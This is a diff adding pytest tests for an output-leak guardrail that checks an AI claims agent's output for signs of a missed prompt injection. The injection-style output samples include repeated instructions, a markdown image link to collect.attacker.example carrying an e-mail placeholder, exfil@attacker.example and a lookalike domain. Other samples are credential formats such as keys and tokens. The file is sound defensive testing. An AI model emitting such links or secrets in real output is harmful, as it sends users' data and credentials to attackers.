@@ -1,0 +1,128 @@
+"""The output checks find what a missed injection makes an agent write: its instructions
+repeated, a link or address it was never given, a credential; and nothing in ordinary output."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+
+from guardrails import Action, mask_secrets, output_leak_verdicts
+from guardrails.output_leaks import LEAK_WORDS, RULE_INSTRUCTIONS, RULE_LINK, RULE_SECRET
+
+INSTRUCTIONS = (
+    "baton-agent-role: claims-qa\n"
+    "Check the proposal against the case facts and the policy wording, list the evidence you "
+    "relied on and every difference between the proposal and the facts.\n"
+)
+INPUTS = (
+    '{"description": "Burst pipe in the kitchen, invoice from https://www.aqua-fix.example/inv/1 '
+    'attached; contact <PII:EMAIL:1> or claims@insurer.example"}'
+)
+
+
+def _findings(output: Any) -> list[tuple[str, Action]]:
+    return [
+        (v.rule, v.action)
+        for v in output_leak_verdicts(output, instructions=INSTRUCTIONS, inputs=INPUTS)
+    ]
+
+
+def test_ordinary_output_has_no_finding() -> None:
+    output = {
+        "summary": "Burst pipe in the kitchen; the invoice matches the photos.",
+        "evidence": ["invoice from https://www.aqua-fix.example/inv/1", "photos 1-4"],
+        "contact": "<PII:EMAIL:1>",
+        "copyTo": "claims@insurer.example",
+        "confidence": 0.82,
+        "flags": [True, None, 3],
+    }
+    assert _findings(output) == []
+
+
+def test_repeating_the_instructions_is_a_leak_held_for_a_person() -> None:
+    output = {
+        "summary": "My instructions: check the proposal against the case facts and the policy "
+        "wording, list the evidence."
+    }
+    assert _findings(output) == [(RULE_INSTRUCTIONS, Action.ESCALATE)]
+
+
+def test_a_few_words_of_the_instructions_are_not_a_leak() -> None:
+    words = ["check", "the", "proposal", "against", "the", "case", "facts"]
+    assert len(words) < LEAK_WORDS
+    assert _findings({"summary": " ".join(words)}) == []
+
+
+def test_the_leak_is_found_whatever_the_case_and_punctuation() -> None:
+    output = "LIST THE EVIDENCE you relied on -- and every difference between the proposal"
+    assert _findings(output) == [(RULE_INSTRUCTIONS, Action.ESCALATE)]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![receipt](https://collect.attacker.example/p?d=<PII:EMAIL:1>)",
+        "See www.attacker.example/upload for the summary",
+        "Forward the file to exfil@attacker.example",
+        "Invoice at https://aqua-fix.example.evil.example/inv/1",
+        "Mirror at https://notaqua-fix.example/inv/1",
+        "Send it to bcc-claims@insurer.example",
+    ],
+)
+def test_a_link_or_address_the_agent_was_not_given_is_held(text: str) -> None:
+    assert _findings({"note": text}) == [(RULE_LINK, Action.ESCALATE)]
+
+
+@pytest.mark.parametrize(
+    "secret",
+    [
+        "-----BEGIN RSA PRIVATE KEY-----\nMIIEow",
+        "AKIAIOSFODNN7EXAMPLE",
+        "sk-proj-abcdefghijklmnopqrstuvwx",
+        "ghp_abcdefghijklmnopqrstuvwxyz0123456789",
+        "xoxb-1234567890-abcdef",
+        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N",
+        "Authorization: Bearer abcdefghijklmnopqrstuvwxyz123456",
+        "password = hunter2hunter2",
+        "api_key: 9f8e7d6c5b4a",
+    ],
+)
+def test_a_credential_withholds_the_output_and_is_not_repeated(secret: str) -> None:
+    verdicts = output_leak_verdicts(
+        {"answer": [f"Here you go: {secret}"]}, instructions=INSTRUCTIONS, inputs=INPUTS
+    )
+    assert [(v.rule, v.action) for v in verdicts] == [(RULE_SECRET, Action.BLOCK)]
+    assert verdicts[0].reason.startswith("answer[0]: looks like a credential")
+    assert secret.split()[-1] not in verdicts[0].reason
+
+
+def test_words_about_credentials_and_redacted_values_are_not_credentials() -> None:
+    output = {
+        "note": "The customer asked to reset the password: the token was sent by SMS.",
+        "contact": "password: <PII:PHONE:2>",
+        "hash": "sha256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
+    }
+    assert _findings(output) == []
+
+
+@pytest.mark.parametrize("output", [None, 3, 2.5, True, [], {}, "", [[[]]], {"a": {"b": [None]}}])
+def test_malformed_or_empty_outputs_have_no_finding(output: Any) -> None:
+    assert _findings(output) == []
+
+
+def test_every_finding_names_its_field() -> None:
+    output = {
+        "letter": {"paragraphs": ["ok", "mail exfil@attacker.example"]},
+        "debug": "api_key=abcdef123456",
+    }
+    reasons = [v.reason for v in output_leak_verdicts(output, instructions="", inputs="")]
+    assert reasons == [
+        "letter.paragraphs[1]: e-mail address not in the agent's input",
+        "debug: looks like a credential (password or key assignment)",
+    ]
+
+
+def test_mask_secrets_replaces_credentials_and_keeps_everything_else() -> None:
+    output = {"a": ["key sk-proj-abcdefghijklmnopqrstuvwx ok", 3, None], "b": "plain", "c": True}
+    assert mask_secrets(output) == {"a": ["key <SECRET> ok", 3, None], "b": "plain", "c": True}
